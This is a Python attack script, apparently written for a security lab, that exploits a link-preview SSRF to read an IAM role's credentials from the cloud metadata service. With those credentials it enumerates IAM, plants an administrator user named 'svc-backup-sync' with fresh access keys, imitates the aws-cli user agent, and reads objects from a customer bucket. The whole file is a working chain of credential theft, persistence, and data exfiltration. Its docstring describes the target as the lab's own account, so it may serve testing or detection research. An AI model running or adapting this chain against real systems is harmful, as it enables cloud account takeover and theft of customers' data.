"""The attack on the link preview: a role's credential by its own answer, then the account by it.

    steal.py APPLICATION     with AWS_ENDPOINT_URL

Harmless: the account is the lab's own. What it copies is thrown away.
"""

import json
import sys
import time
import urllib.parse
import urllib.request

import aws

SERVICE = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
TOOL = "aws-cli/2.17.44 md/awscrt#0.21.2 ua/2.0 os/linux md/arch#x86_64 lang/python#3.11.9"
OBJECTS_MAX = 40


def ask_application(application, url):
    query = urllib.parse.urlencode({"url": url})
    with urllib.request.urlopen(f"{application}/preview?{query}", timeout=10) as answer:
        return json.load(answer)["text"]


def say(text):
    print(f"    {text}", flush=True)


def main(application):
    role = ask_application(application, SERVICE).strip()
    say(f"the metadata service names role {role}")
    credential = json.loads(ask_application(application, SERVICE + role))
    print(f"mark fetched {time.time_ns()}", flush=True)
    say(f"and hands out {credential['AccessKeyId']}")

    stolen = aws.Client.of_metadata(credential, agent=TOOL)
    say(f"from outside it is {aws.value(stolen.ask('sts', 'GetCallerIdentity'), 'Arn')}")
    for action in ("ListUsers", "ListRoles", "ListGroups", "ListPolicies", "GetAccountSummary", "GetAccountAuthorizationDetails"):
        stolen.ask("iam", action)
    stolen.ask("iam", "CreateUser", UserName="svc-backup-sync")
    policy = "arn:aws:iam::aws:policy/AdministratorAccess"
    stolen.ask("iam", "AttachUserPolicy", UserName="svc-backup-sync", PolicyArn=policy)
    made = stolen.ask("iam", "CreateAccessKey", UserName="svc-backup-sync")
    key = aws.value(made, "AccessKeyId")
    say(f"it made user svc-backup-sync, an administrator, with key {key}")

    planted = aws.Client(key, aws.value(made, "SecretAccessKey"), agent=TOOL)
    buckets = aws.values(planted.send("s3", "GET", "/").decode(), "Name")
    listed = planted.send("s3", "GET", "/shop-customers?list-type=2").decode()
    objects = aws.values(listed, "Key")[:OBJECTS_MAX]
    bytes_read = sum(len(planted.send("s3", "GET", f"/shop-customers/{name}")) for name in objects)
    say(f"of {len(buckets)} buckets it read {len(objects)} objects, {bytes_read} bytes")


if __name__ == "__main__":
    main(sys.argv[1])
